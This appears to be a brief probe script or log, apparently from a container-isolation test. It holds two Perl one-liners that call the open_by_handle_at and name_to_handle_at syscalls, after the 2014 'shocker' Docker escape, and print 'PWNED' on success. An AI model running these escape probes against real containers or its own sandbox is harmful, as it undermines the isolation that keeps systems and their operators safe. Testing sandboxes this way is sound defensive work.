# tries: open a file of the host by its handle
# from: shocker, the Docker escape of 2014
tried open-by-handle
perl -e 'my $h = pack("Ii", 8, 1) . pack("Q", 2); syscall(304, 3, $h, 0) >= 0 && print "PWNED\n"'
tried name-to-handle
perl -e 'my ($p, $h, $m) = ("/usr", pack("Ii", 128, 0) . "\0" x 128, "\0" x 8); syscall(303, -100, $p, $h, $m, 0) >= 0 && print "PWNED\n"'
